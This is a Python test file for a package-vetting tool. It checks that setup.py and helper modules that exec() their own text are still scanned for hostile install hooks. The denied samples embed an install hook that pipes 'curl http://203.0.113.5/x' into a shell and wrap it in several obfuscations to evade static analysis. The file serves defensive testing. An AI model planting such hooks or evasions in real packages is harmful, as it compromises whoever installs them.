"""A module's top-level exec of code in plain sight is read as its own code (ADR 0155).

A ``setup.py`` or a helper module whose whole text is ``exec('...')`` of itself runs that
text in its own namespace, but the passes that read a module's syntax tree (install
hooks, functions a module imports from its sibling) saw only a string. Wrapped so, a
``cmdclass`` install hook that pipes a download to a shell was allowed. Each sample is
inert (vetting only reads files); the near-misses (six's ``exec_`` of a function
definition, a wheel whose RECORD hashes the shipped bytes) stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.execinline import inlined
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

CURL = "curl -s http://203.0.113.5/x | sh"
HOOKED_SETUP = (
    "import subprocess\n"
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "class Install(install):\n"
    "    def run(self):\n"
    f"        subprocess.run({CURL!r}, shell=True)\n"
    "        install.run(self)\n"
    "setup(name='evpkg', packages=['evpkg'], cmdclass={'install': Install})\n"
)
HELPER_SETUP = (
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "from pre_install import pre_install\n"
    "class Install(install):\n"
    "    def run(self):\n"
    "        pre_install()\n"
    "        install.run(self)\n"
    "setup(name='evpkg', packages=['evpkg'], cmdclass={'install': Install})\n"
)
PLAIN_SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
HELPER = f"import subprocess\ndef pre_install():\n    subprocess.run({CURL!r}, shell=True)\n"


def _setup(text: str, **more: str) -> dict[str, str]:
    return {"setup.py": text, "evpkg/__init__.py": "", **more}


DENIED: dict[str, dict[str, str]] = {
    "install-hook-setup-exec-d-from-a-literal": _setup(f"exec({HOOKED_SETUP!r})\n"),
    "install-hook-setup-exec-d-from-a-grown-name": _setup(
        f"import sys\n_code = {HOOKED_SETUP!r} + sys.argv[0][:0]\nexec(_code)\n"
    ),
    "install-hook-setup-compiled-from-bytes": _setup(
        f"exec(compile({HOOKED_SETUP.encode()!r}, 'setup.py', 'exec'))\n"
    ),
    "install-hook-setup-with-a-future-import": _setup(
        f"exec({'from __future__ import annotations' + chr(10) + HOOKED_SETUP!r})\n"
    ),
    "install-hook-setup-in-an-f-string": _setup(f"P = {HOOKED_SETUP!r}\nexec(f'{{P}}')\n"),
    "install-hook-setup-wrapped-twice": _setup(f"exec({f'exec({HOOKED_SETUP!r})' + chr(10)!r})\n"),
    "helper-module-wrapped-its-function-run-by-the-hook": _setup(
        HELPER_SETUP,
        **{"pre_install.py": f"import sys\n_c = {HELPER!r} + sys.argv[0][:0]\nexec(_c)\n"},
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "six-style-reraise-defined-by-exec": {
        "evpkg/__init__.py": (
            'exec("def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n")\n'
        )
    },
    "wheel-module-exec-ing-a-literal-keeps-its-record": {
        "evpkg/__init__.py": "exec('VERSION = \"1.0\"\\n')\nprint_version = lambda: VERSION\n"
    },
    "plain-setup-exec-d-from-a-literal": _setup(
        "exec("
        + repr("from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n")
        + ")\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_top_level_exec_read_as_the_module(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected


def test_the_exec_stays_after_its_code() -> None:
    grown = inlined(b"import sys\nC = 'x = 1\\n' + sys.argv[0][:0]\nexec(C)\n")
    assert grown == b"import sys\nC = 'x = 1\\n' + sys.argv[0][:0]\nx = 1\nexec(C)\n"


def test_a_name_rebound_elsewhere_is_not_read() -> None:
    # ``C`` is also set inside a function: what exec runs is not what the top level says.
    text = b"C = 'x = 1'\ndef f():\n    global C\n    C = 'y = 2'\nf()\nexec(C)\n"
    assert inlined(text) is None


def test_nothing_to_read_leaves_the_text() -> None:
    assert inlined(b"def f(code):\n    exec(code)\n") is None
    assert inlined(b"exec(sys.stdin.read())\n") is None
    assert inlined(b"exec('not python (')\n") is None
    assert inlined(b"# -*- coding: rot13 -*-\nexec('k = 1')\n") is None


def test_a_future_import_after_a_form_feed_is_blanked() -> None:
    # A form feed in a docstring is a line break to ``str.splitlines`` but not to the
    # parser: the import on the parser's line 2 must be the line blanked.
    code = '"""doc\x0cstring"""\nfrom __future__ import annotations\nimport os\n'
    grown = inlined(f"exec({code!r})\n".encode())
    assert grown is not None
    assert grown.decode().startswith('"""doc\x0cstring"""\n\nimport os\n')


def test_code_with_carriage_returns_is_put_in() -> None:
    code = "from __future__ import annotations\r\nimport os\rRUN = 1\r\n"
    grown = inlined(f"exec({code!r})\n".encode())
    assert grown is not None
    assert grown.decode().startswith("\nimport os\nRUN = 1\n")
